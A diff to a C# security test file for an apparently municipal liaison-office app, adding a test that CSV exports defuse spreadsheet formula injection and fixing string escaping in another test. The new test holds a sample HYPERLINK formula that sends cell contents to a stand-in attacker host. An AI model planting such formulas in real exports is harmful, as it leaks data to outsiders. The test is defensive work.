@@ -151,6 +151,31 @@ public sealed class HardeningTests : IAsyncLifetime
     }
 
     [Fact]
+    public async Task A_formula_in_a_liaisons_note_comes_out_of_the_follow_ups_csv_as_text()
+    {
+        using var officeScript = await app.OfficeAsync();
+        var (_, transport) = await app.LiaisonAsync("市交通运输局");
+        var meeting = await officeScript.PostAsJsonAsync($"/api/plans/{app.PlanId}/meetings", new
+        {
+            kind = "officeMeeting", title = "领导小组办公室会议", heldOn = "2026-06-01", place = "市外办",
+            attendees = new[] { "市交通运输局" },
+            decisions = new[] { new { text = "-开通航线", unitId = app.UnitIds["市交通运输局"], deadline = "2026-07-31" } },
+        });
+        var id = (await meeting.Content.ReadFromJsonAsync<MeetingItem>())!.Decisions.Single().Id;
+        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
+        (await transport.PostAsJsonAsync($"/api/followups/{id}/done", new { note = Formula })).EnsureSuccessStatusCode();
+
+        var officeUser = await Accounts.CreateAsync(app.Factory, "office");
+        using var browser = await Accounts.CookieClientAsync(app.Factory, officeUser.UserName!);
+        var csv = await browser.GetStringAsync($"/followups?handler=Csv&planId={app.PlanId}");
+        var rows = Jiaowang.Core.Network.CsvText.Parse(csv);
+        var row = rows.Single(r => r.Any(c => c.Contains("HYPERLINK")));
+        Assert.Contains("'" + Formula, row);
+        Assert.Contains("'-开通航线", row);
+        Assert.DoesNotContain(rows.SelectMany(r => r), c => c.Length > 0 && "=+-@".Contains(c[0]));
+    }
+
+    [Fact]
     public async Task A_liaison_sees_other_units_overdue_reports_and_drafts_only_as_a_count()
     {
         const string Transport = "市交通运输局", Commerce = "市商务局";
@@ -169,15 +194,15 @@ public sealed class HardeningTests : IAsyncLifetime
         foreach (var path in new[] { "/", $"/units/{a}" })
         {
             var seenByLeader = OverdueRows(await leader.GetStringAsync(path));
-            Assert.Contains(seenByLeader, r => r.Contains($"/units/{a}"") && r.Contains("草稿"));
+            Assert.Contains(seenByLeader, r => r.Contains($"/units/{a}\"") && r.Contains("草稿"));
 
             var page = await commerce.GetStringAsync(path);
-            Assert.DoesNotContain(OverdueRows(page), r => r.Contains($"/units/{a}""));
+            Assert.DoesNotContain(OverdueRows(page), r => r.Contains($"/units/{a}\""));
             Assert.Contains("其他单位另有", page);
             Assert.Contains("逾期未报", page);
         }
         // Their own unit's rows they still read in detail.
-        Assert.Contains(OverdueRows(await transport.GetStringAsync("/")), r => r.Contains($"/units/{a}"") && r.Contains("草稿"));
+        Assert.Contains(OverdueRows(await transport.GetStringAsync("/")), r => r.Contains($"/units/{a}\"") && r.Contains("草稿"));
     }
 
     static List<string> OverdueRows(string html)
